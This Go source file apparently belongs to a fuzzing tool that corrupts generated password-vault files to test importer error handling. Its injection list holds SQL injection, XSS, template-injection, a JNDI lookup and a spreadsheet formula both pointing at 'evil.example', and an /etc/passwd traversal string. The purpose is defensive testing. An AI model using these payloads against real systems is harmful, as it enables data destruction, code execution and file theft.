// Package blobby deliberately damages generated vaults to probe importer
// error handling. Corruption is format-aware: each payload targets a real
// parsing weak point of the format it is injected into.
package blobby

import (
	"strings"

	"github.com/vaultgen/vaultgen/pkg/randutil"
)

// PayloadCategory tags what kind of damage a payload does.
type PayloadCategory string

const (
	CategoryBadURL    PayloadCategory = "bad_url"
	CategoryUnicode   PayloadCategory = "unicode"
	CategoryOversized PayloadCategory = "oversized"
	CategoryEmpty     PayloadCategory = "empty"
	CategoryInjection PayloadCategory = "injection"
)

// Payload is one corruption value.
type Payload struct {
	Category PayloadCategory
	Value    string
}

var badURLPayloads = []string{
	"htp:/broken",
	"https://",
	"://missing-scheme.example",
	"https://exa mple.com/space in host",
	"https://user:pass@:443",
	"ftp://\\\\invalid\\backslashes",
	"https://xn--invalid-punycode-",
	"javascript:alert(1)",
}

var unicodePayloads = []string{
	"null\x00byte",
	"zero​width​spaces",
	"‮override-rtl-text",
	"combining-á́́́marks",
	"\uFEFFleading-bom",
	"surrogate-ish � replacement",
}

var injectionPayloads = []string{
	"'; DROP TABLE items;--",
	"<script>alert('imported')</script>",
	"{{constructor.constructor('return process')()}}",
	"${jndi:ldap://evil.example/a}",
	"../../../../etc/passwd",
	"=HYPERLINK(\"https://evil.example\",\"click\")",
	"Robert\"); DELETE FROM vaults;--",
}

// Oversized field budgets.
const (
	oversizedNotesLen    = 12000
	oversizedPasswordLen = 1200
	oversizedTitleLen    = 10000
)

func oversized(n int) string {
	return strings.Repeat("A", n)
}

// randomPayload draws from the shared library across all categories.
func randomPayload(r *randutil.Rand) Payload {
	switch r.Intn(5) {
	case 0:
		return Payload{CategoryBadURL, randutil.Pick(r, badURLPayloads)}
	case 1:
		return Payload{CategoryUnicode, randutil.Pick(r, unicodePayloads)}
	case 2:
		switch r.Intn(3) {
		case 0:
			return Payload{CategoryOversized, oversized(oversizedNotesLen)}
		case 1:
			return Payload{CategoryOversized, oversized(oversizedPasswordLen)}
		default:
			return Payload{CategoryOversized, oversized(oversizedTitleLen)}
		}
	case 3:
		return Payload{CategoryEmpty, ""}
	default:
		return Payload{CategoryInjection, randutil.Pick(r, injectionPayloads)}
	}
}

// payloadForField keeps oversized payloads proportionate to the field kind
// and steers URL fields toward malformed URLs.
func payloadForField(r *randutil.Rand, field string) Payload {
	switch field {
	case "url":
		if r.Chance(60) {
			return Payload{CategoryBadURL, randutil.Pick(r, badURLPayloads)}
		}
	case "password":
		if r.Chance(25) {
			return Payload{CategoryOversized, oversized(oversizedPasswordLen)}
		}
	case "notes":
		if r.Chance(25) {
			return Payload{CategoryOversized, oversized(oversizedNotesLen)}
		}
	case "title", "username":
		if r.Chance(15) {
			return Payload{CategoryOversized, oversized(oversizedTitleLen)}
		}
	}
	return randomPayload(r)
}
